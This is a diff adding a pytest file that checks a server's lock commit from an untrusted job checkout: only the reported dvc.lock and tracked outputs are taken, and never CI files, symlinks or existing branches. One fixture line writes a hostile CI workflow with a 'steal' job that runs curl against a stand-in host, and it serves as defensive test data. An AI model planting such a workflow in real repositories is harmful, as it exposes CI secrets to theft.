@@ -1,0 +1,105 @@
+"""A server job's lock commit (`locks.commit_for_job`): what the server takes from the job's checkout, and what not.
+
+The job's checkout was written by code the server does not trust. The server commits only the lock files its
+training reported (by hash) and the git-tracked files the lock lists as outputs, never a file that steers git, CI
+or DVC, never through a link, and never onto a branch that exists already.
+"""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+from conftest import commit_all, git, tiny_pipeline
+
+from govern.api import locks
+from govern.api.context import open_project
+from govern.events import ModelRegistered, PendingEvent, TrainingCompleted, utc_now
+
+MD5, SHA = "a" * 32, "b" * 64
+LOCK = f"""schema: '2.0'
+stages:
+  make:
+    cmd: python make.py
+    outs:
+    - path: out.txt
+      md5: {MD5}
+    - path: score.json
+      md5: {"c" * 32}
+    - path: .github/workflows/ci.yml
+      md5: {"d" * 32}
+"""
+
+
+@pytest.fixture
+def trained(tmp_path: Path) -> dict:
+    """A project whose base commit tracks score.json and a CI workflow; a training reporting LOCK at it."""
+    project = tiny_pipeline(tmp_path / "project")
+    (project / "score.json").write_text('{"n": 0}')
+    (project / ".github" / "workflows").mkdir(parents=True)
+    (project / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
+    base = commit_all(project, "base")
+    job = tmp_path / "job"
+    (job / ".github" / "workflows").mkdir(parents=True)
+    (job / "dvc.lock").write_text(LOCK)
+    (job / "score.json").write_text('{"n": 7}')
+    (job / ".github" / "workflows" / "ci.yml").write_text("on: push\njobs: {steal: {run: curl evil}}\n")
+    return {"project": project, "base": base, "job": job, "training": record(project, base, LOCK)}
+
+
+def record(project: Path, base: str, lock_text: str) -> str:
+    training = TrainingCompleted(
+        git={"commit": base, "branch": "main", "dirty_paths": []},
+        dvc_lock_sha256=locks.lock_digest({"dvc.lock": lock_text}), targets=[], stages=[], params={}, metrics={},
+        outputs=[], datasets=[], models=[{"name": "tiny-model", "path": "out.txt", "md5": MD5, "sha256": SHA}],
+        environment={}, duration_s=1.0, run_cache_hit=False,
+    )  # fmt: skip
+    ledger = open_project(project).ledger
+    [done] = ledger.append([PendingEvent(training, actor="sci", occurred_at=utc_now(), git_commit=base)])
+    registered = ModelRegistered("tiny-model", "1", "out.txt", MD5, SHA, done.event_id, "run", "sqlite:///x", "m")
+    ledger.append([PendingEvent(registered, actor="sci", occurred_at=utc_now(), git_commit=base)])
+    return done.event_id
+
+
+def test_the_lock_and_tracked_results_are_committed_but_never_a_file_that_steers_ci(trained: dict) -> None:
+    project, base = trained["project"], trained["base"]
+
+    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", trained["training"], trained["job"], "sci")
+
+    assert note is None and sha, note
+    assert git(project, "rev-parse", "govern/trainings/0123456789ab") == sha
+    assert git(project, "rev-parse", f"{sha}^") == base
+    assert sorted(git(project, "diff", "--name-only", base, sha).split()) == ["dvc.lock", "score.json"]
+    assert git(project, "show", f"{sha}:.github/workflows/ci.yml") == "on: push", "the job's CI file is not taken"
+    assert git(project, "log", "-1", "--format=%an <%ae>", sha) == "govern server <govern-server@localhost>"
+    assert git(project, "status", "--porcelain") == "", "the server's work tree and index are untouched"
+    [locked] = open_project(project).ledger.read(types=["training.locked"])
+    assert locked.payload["commit"] == sha and locked.payload["versions"] == [{"model": "tiny-model", "version": "1"}]
+
+
+def test_a_lock_other_than_the_reported_one_or_behind_a_link_commits_nothing(trained: dict, tmp_path: Path) -> None:
+    project, job = trained["project"], trained["job"]
+    (job / "dvc.lock").write_text(LOCK.replace(MD5, "e" * 32))  # another model's bytes than the training's
+
+    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", trained["training"], job, "sci")
+
+    assert sha is None and note == "the job's dvc.lock is not the one its training reports: nothing was committed"
+    (tmp_path / "elsewhere.lock").write_text(LOCK)
+    (job / "dvc.lock").unlink()
+    os.symlink(tmp_path / "elsewhere.lock", job / "dvc.lock")
+    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", trained["training"], job, "sci")
+    assert sha is None and "dvc.lock in the job's workspace is not a plain file" in note, note
+    assert not git(project, "branch", "--list", "govern/trainings/*"), "no branch was made"
+    assert open_project(project).ledger.read(types=["training.locked"]) == []
+
+
+def test_an_existing_branch_is_never_moved(trained: dict) -> None:
+    project = trained["project"]
+    git(project, "branch", "govern/trainings/0123456789ab")  # someone's branch of that name
+    before = git(project, "rev-parse", "govern/trainings/0123456789ab")
+
+    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", trained["training"], trained["job"], "sci")
+
+    assert sha is None and "the lock could not be committed" in note, note
+    assert git(project, "rev-parse", "govern/trainings/0123456789ab") == before
